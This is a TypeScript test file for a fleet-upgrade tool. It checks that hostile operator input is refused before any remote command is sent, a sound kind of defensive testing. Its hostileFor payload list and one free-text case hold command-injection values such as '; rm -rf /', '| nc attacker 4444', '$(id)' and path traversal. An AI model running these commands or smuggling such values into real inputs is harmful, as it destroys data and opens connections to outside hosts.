/**
 * Hostile operator input, pushed through every way an operator hands fleetwave
 * a value: the CLI's options, the HostUpgrade and HostRollback console inputs,
 * and the fleet file. Each must be refused with a message naming the field,
 * before any SSM command exists.
 *
 * Two kinds of field, two expectations:
 * - shaped fields (ids, versions, backup ids, paths, URLs) refuse every hostile
 *   value at validation, except `latest` for ids: it is a well-formed slug, so it
 *   is refused one step later as an unknown host / rollout (never as a version:
 *   `latest` is never a version).
 * - free-text fields (reason, requestedBy) are stored and logged but never reach
 *   a shell (core/models.ts REASON_PATTERN): printable ASCII up to 500 chars is
 *   accepted as data; control characters, non-ASCII and overlong text are refused.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startExecution, waitForExecution, type ExecutionResult } from '../../cli/executions';
import { jsonOf, pointCliAtLab, runCli } from '../support/cli';
import { startTestLab, type TestLab } from '../support/lab';

const OVERLONG = `1.5.0-${'a'.repeat(600)}`;

/** The hostile values every field gets, plus the same tricks glued onto a valid value. */
function hostileFor(valid: string): string[] {
  return [
    '1.5.0; rm -rf /',
    '1.5.0 | nc attacker 4444',
    '1.5.0 && reboot',
    '$HOME',
    '(subshell)',
    '<in >out',
    '`id`',
    '$(id)',
    'stg-1\nid',
    '-rf',
    'latest',
    '../../etc',
    '/opt/../etc',
    OVERLONG,
    '1.６.0', // fullwidth digit six
    'h\u0430st-1', // Cyrillic а
    `${valid};id`,
    `${valid}$(id)`,
    `${valid}\`id\``,
    `${valid}\n-rf`,
    `${valid}|id`,
  ];
}

const PRINTABLE_TEXT = /^[\x20-\x7E]{1,500}$/;
type FieldKind = 'id' | 'shaped' | 'text';
/** Whether `value` is well-formed for a field of this kind (and so refused later, or accepted as text). */
const wellFormed = (kind: FieldKind, value: string) => (kind === 'id' && value === 'latest') || (kind === 'text' && PRINTABLE_TEXT.test(value));

let t: TestLab;
let hostId: string;
let execCounter = 0;

beforeAll(async () => {
  t = await startTestLab();
  const [h] = await t.addHosts('bad-input', [{ id: 'bad-input-1', tier: 'staging', mode: 'embedded', version: '1.4.0' }]);
  hostId = h!.id;
  pointCliAtLab(t);
}, 240_000);
afterAll(async () => {
  await t?.close();
});

/** Run `fn` over `items` with at most `limit` at once. */
async function pooled<T, R>(items: T[], limit: number, fn: (item: T) => Promise<R>): Promise<R[]> {
  const out: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(limit, items.length) }, async () => {
      while (next < items.length) {
        const i = next++;
        out[i] = await fn(items[i]!);
      }
    }),
  );
  return out;
}

async function run(machine: 'hostUpgrade' | 'hostRollback', input: Record<string, unknown>): Promise<ExecutionResult> {
  const { executionArn } = await startExecution(t.sfn, t.lab.stateMachines[machine], `bad-input-${execCounter++}`, input);
  return waitForExecution(t.sfn, executionArn, () => undefined, 100);
}

function expectNoCommands() {
  expect(t.lab.ssm.sentCommands()).toEqual([]);
}

interface ConsoleCase {
  machine: 'hostUpgrade' | 'hostRollback';
  field: string;
  kind: FieldKind;
  valid: string;
  base: () => Record<string, unknown>;
  /** The error a well-formed value meets one step later. */
  laterError: string;
}

const consoleCases: ConsoleCase[] = [
  { machine: 'hostUpgrade', field: 'hostId', kind: 'id', valid: 'bad-input-1', base: () => ({ hostId, version: '1.5.0' }), laterError: 'HostNotFoundError' },
  { machine: 'hostUpgrade', field: 'version', kind: 'shaped', valid: '1.5.0', base: () => ({ hostId, version: '1.5.0' }), laterError: '-' },
  { machine: 'hostUpgrade', field: 'rolloutId', kind: 'id', valid: 'r-1', base: () => ({ hostId, version: '1.5.0' }), laterError: 'RolloutNotFoundError' },
  // 9.9.9 is not in the catalog: a well-formed requestedBy is accepted, then the upgrade is refused without touching the host
  { machine: 'hostUpgrade', field: 'requestedBy', kind: 'text', valid: 'ops', base: () => ({ hostId, version: '9.9.9' }), laterError: 'UnknownReleaseError' },
  { machine: 'hostRollback', field: 'hostId', kind: 'id', valid: 'bad-input-1', base: () => ({ hostId, reason: 'bad input' }), laterError: 'HostNotFoundError' },
  { machine: 'hostRollback', field: 'backupId', kind: 'shaped', valid: '9b2f0c1e-0000-4000-8000-000000000000', base: () => ({ hostId, reason: 'bad input' }), laterError: '-' },
  { machine: 'hostRollback', field: 'toVersion', kind: 'shaped', valid: '1.4.0', base: () => ({ hostId, reason: 'bad input' }), laterError: '-' },
  // the host has no backup: a well-formed reason is accepted, then nothing is restorable
  { machine: 'hostRollback', field: 'reason', kind: 'text', valid: 'why', base: () => ({ hostId, reason: 'bad input' }), laterError: 'NoUsableBackupError' },
];

describe('the Step Functions console inputs', () => {
  it.each(consoleCases.map((c) => [`${c.machine === 'hostUpgrade' ? 'HostUpgrade' : 'HostRollback'}.${c.field}`, c] as const))(
    '%s refuses every hostile value before any command is sent',
    async (_name, c) => {
      const values = hostileFor(c.valid);
      const results = await pooled(values, 6, (value) => run(c.machine, { ...c.base(), [c.field]: value }));
      const problems: string[] = [];
      values.forEach((value, i) => {
        const r = results[i]!;
        const expected = wellFormed(c.kind, value) ? c.laterError : 'InvalidTaskInputError';
        if (r.status !== 'FAILED' || r.error !== expected) problems.push(`${JSON.stringify(value)}: ${r.status} ${r.error} (expected FAILED ${expected})`);
        else if (expected === 'InvalidTaskInputError' && !(r.cause ?? '').includes(`${c.field}: `)) {
          problems.push(`${JSON.stringify(value)}: cause does not name ${c.field}: ${r.cause}`);
        }
      });
      expect(problems).toEqual([]);
      expectNoCommands();
      // no refusal may leave the host leased (a leaked lease would block the next real upgrade)
      const lease = await t.lab.store.getLease(hostId);
      expect(lease === null || lease.expired).toBe(true);
    },
    60_000,
  );

  it('stores a well-formed free-text value verbatim as data, never as a command', async () => {
    const text = '`id`; $(id) | rm -rf ../../etc && echo <pwned> -rf latest';
    const r = await run('hostUpgrade', { hostId, version: '9.9.9', requestedBy: text });
    expect(r.error).toBe('UnknownReleaseError');
    const [refused] = await t.lab.store.listAudit({ hostId, limit: 1000 }).then((a) => a.filter((e) => e.action === 'upgrade.refused' && e.actor === text));
    expect(refused?.details).toMatchObject({ version: '9.9.9' });
    expectNoCommands();
  });
});

interface CliCase {
  command: string;
  option: string;
  kind: FieldKind;
  valid: string;
  argv: (value: string) => string[];
}

const cliCases: CliCase[] = [
  { command: 'host upgrade', option: '--host', kind: 'id', valid: 'bad-input-1', argv: (v) => ['host', 'upgrade', '--host', v, '--version', '1.5.0', '--json'] },
  { command: 'host upgrade', option: '--version', kind: 'shaped', valid: '1.5.0', argv: (v) => ['host', 'upgrade', '--host', hostId, '--version', v, '--json'] },
  { command: 'rollback', option: '--host', kind: 'id', valid: 'bad-input-1', argv: (v) => ['rollback', '--host', v, '--json'] },
  { command: 'rollback', option: '--backup', kind: 'shaped', valid: '9b2f0c1e-0000-4000-8000-000000000000', argv: (v) => ['rollback', '--host', hostId, '--backup', v, '--json'] },
  { command: 'rollback', option: '--to-version', kind: 'shaped', valid: '1.4.0', argv: (v) => ['rollback', '--host', hostId, '--to-version', v, '--json'] },
  { command: 'rollback', option: '--reason', kind: 'text', valid: 'why', argv: (v) => ['rollback', '--host', hostId, '--reason', v, '--wait', '--json'] },
  { command: 'backups list', option: '--host', kind: 'id', valid: 'bad-input-1', argv: (v) => ['backups', 'list', '--host', v, '--json'] },
];

describe('the CLI options', () => {
  it.each(cliCases.map((c) => [`${c.command} ${c.option}`, c] as const))(
    'fleetwave %s refuses every hostile value with exit 2 and the option named',
    async (_name, c) => {
      const problems: string[] = [];
      for (const value of hostileFor(c.valid)) {
        const r = await runCli(c.argv(value));
        if (c.kind === 'text' && wellFormed(c.kind, value)) {
          // accepted as text; the rollback itself is refused (no backup), exit 2, nothing restored
          if (r.code !== 2 || !/NoUsableBackupError/.test(r.stdout)) problems.push(`${JSON.stringify(value)}: exit ${r.code} ${r.stdout} ${r.stderr}`);
          continue;
        }
        // `latest` is a well-formed host id that no host has: refused by the registry look-up, same exit, same option named
        if (r.code !== 2 || !r.stderr.includes(`${c.option}: `)) problems.push(`${JSON.stringify(value)}: exit ${r.code}, stderr ${JSON.stringify(r.stderr)}`);
      }
      expect(problems).toEqual([]);
      expectNoCommands();
    },
    60_000,
  );
});

describe('the fleet file', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'fw-fleet-file-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const validHost = { id: 'ff-host-1', instanceId: 'i-0123456789abcdef0', tier: 'staging', databaseMode: 'embedded', composeDir: '/opt/semaphor', healthUrl: 'http://10.0.0.5:3000/api/health' };
  const fields: { field: keyof typeof validHost; kind: FieldKind }[] = [
    { field: 'composeDir', kind: 'shaped' },
    { field: 'healthUrl', kind: 'shaped' },
    { field: 'instanceId', kind: 'shaped' },
    { field: 'id', kind: 'id' },
  ];
  let n = 0;
  const writeFleet = (host: Record<string, unknown>) => {
    const file = join(dir, `fleet-${n++}.yml`);
    writeFileSync(file, stringify({ fleet: 'hostile', hosts: [host], waves: [{ tier: 'staging', hosts: '100%' }] }));
    return file;
  };

  it('the valid file the cases start from is accepted (dry run)', async () => {
    const r = await runCli(['fleet', 'apply', writeFleet(validHost), '--dry-run', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(jsonOf(r)).toMatchObject({ fleet: 'hostile', dryRun: true });
  });

  it.each(fields.map((f) => [f.field, f] as const))('hosts[].%s refuses every hostile value, names the field and writes nothing', async (_f, { field, kind }) => {
    const problems: string[] = [];
    for (const value of hostileFor(validHost[field])) {
      const file = writeFleet({ ...validHost, [field]: value });
      if (wellFormed(kind, value)) {
        // `latest` is a legal host id; prove it is the only reason it passes
        const r = await runCli(['fleet', 'apply', file, '--dry-run', '--json']);
        if (r.code !== 0) problems.push(`${JSON.stringify(value)}: well-formed but refused: ${r.stderr}`);
        continue;
      }
      const r = await runCli(['fleet', 'apply', file, '--json']);
      if (r.code !== 2 || !r.stderr.includes(`hosts[0].${field}: `)) problems.push(`${JSON.stringify(value)}: exit ${r.code}, stderr ${JSON.stringify(r.stderr)}`);
    }
    expect(problems).toEqual([]);
    expect((await t.lab.store.listHosts()).map((h) => h.id)).toEqual([hostId]);
    await expect(t.lab.store.getFleet('hostile')).rejects.toMatchObject({ name: 'FleetNotFoundError' });
    expectNoCommands();
  }, 60_000);
});
